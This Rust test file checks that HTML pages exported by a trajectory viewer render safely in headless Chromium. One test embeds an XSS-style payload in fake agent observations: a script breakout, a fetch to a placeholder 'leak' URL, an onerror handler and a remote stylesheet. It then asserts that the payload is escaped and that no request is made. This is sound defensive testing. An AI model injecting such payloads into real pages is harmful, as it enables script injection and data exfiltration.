//! `trajscope export --html` pages in a real browser: scripts/html-browser-test.sh opens each
//! in headless Chromium (with playwright-core) and checks step anchors, folding, keys, that
//! the page makes no network request and runs no script error. One page is a sample
//! trajectory; the other a trajectory whose observations try to break out of the page
//! (`</script>`, tags that would load from the network). Skips, saying why, where Chromium,
//! Node.js or playwright-core cannot be had (the script exits 77).

#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "support/cli.rs"]
mod cli;

use serde_json::json;
use std::path::Path;
use std::process::Command;
use std::sync::Mutex;

const SKIPPED: i32 = 77;

fn export(input: &Path, page: &Path) {
    cli::stdout_of(
        cli::trajscope()
            .args(["export", "--html", "-o"])
            .arg(page)
            .arg(input),
    );
}

/// One browser at a time: the first run installs playwright-core, which a second run started
/// meanwhile would find half-installed.
static BROWSER: Mutex<()> = Mutex::new(());

/// Runs the browser checks on `page`; false when they were skipped.
fn browser_checks(page: &Path) -> bool {
    let _one_at_a_time = BROWSER.lock().unwrap_or_else(|e| e.into_inner());
    let shot = page.with_extension("png");
    let out = Command::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/scripts/html-browser-test.sh"
    ))
    .arg(page)
    .arg(&shot)
    .output()
    .unwrap();
    let log = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    if out.status.code() == Some(SKIPPED) {
        eprintln!("browser checks skipped: {log}");
        return false;
    }
    assert!(out.status.success(), "browser checks failed:\n{log}");
    assert!(log.contains("all browser checks passed"), "{log}");
    assert!(log.contains("ok   no network request"), "{log}");
    assert!(shot.exists(), "a screenshot was taken");
    true
}

#[test]
fn a_sample_page_works_in_chromium() {
    let dir = tempfile::tempdir().unwrap();
    let page = dir.path().join("sample.html");
    export(
        Path::new(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/sample-trajectories/swe-agent/tinycalc__tinycalc-1/tinycalc__tinycalc-1.traj"
        )),
        &page,
    );
    browser_checks(&page);
}

#[test]
fn hostile_observations_neither_load_nor_run_anything() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = "</script><script>fetch('http://example.com/leak')</script>\
        <img src=\"http://example.com/pixel.png\" onerror=\"throw new Error('injected')\">\
        <link rel=\"stylesheet\" href=\"https://example.com/x.css\"></pre></details>";
    // Long enough to be folded, so the fold checks run on the hostile text too.
    let long = (1..=200)
        .map(|i| format!("line {i} {hostile}"))
        .collect::<Vec<_>>()
        .join("\n");
    let mut messages = vec![
        json!({"role": "system", "content": "sys"}),
        json!({"role": "user", "content": format!("fix it {hostile}")}),
    ];
    // Ordinary steps after them make the page long enough for every anchor to reach the top.
    let filler = (1..=30)
        .map(|i| format!("ok {i}"))
        .collect::<Vec<_>>()
        .join("\n");
    let observations = [hostile.to_string(), long]
        .into_iter()
        .chain(std::iter::repeat_n(filler, 8));
    for (i, observation) in observations.enumerate() {
        messages.push(json!({"role": "assistant", "content":
            format!("THOUGHT: look {hostile}\n\n```bash\necho {i} '{hostile}'\n```")}));
        messages.push(json!({"role": "user", "content":
            format!("<returncode>0</returncode>\n<output>\n{observation}\n</output>")}));
    }
    let input = dir.path().join("hostile.traj.json");
    std::fs::write(
        &input,
        serde_json::to_vec(
            &json!({"info": {}, "messages": messages, "trajectory_format": "mini-swe-agent-1"}),
        )
        .unwrap(),
    )
    .unwrap();
    let page = dir.path().join("hostile.html");
    export(&input, &page);
    let html = std::fs::read_to_string(&page).unwrap();
    assert!(
        !html.contains("<img src=\"http://example.com"),
        "log text is escaped"
    );
    browser_checks(&page);
}
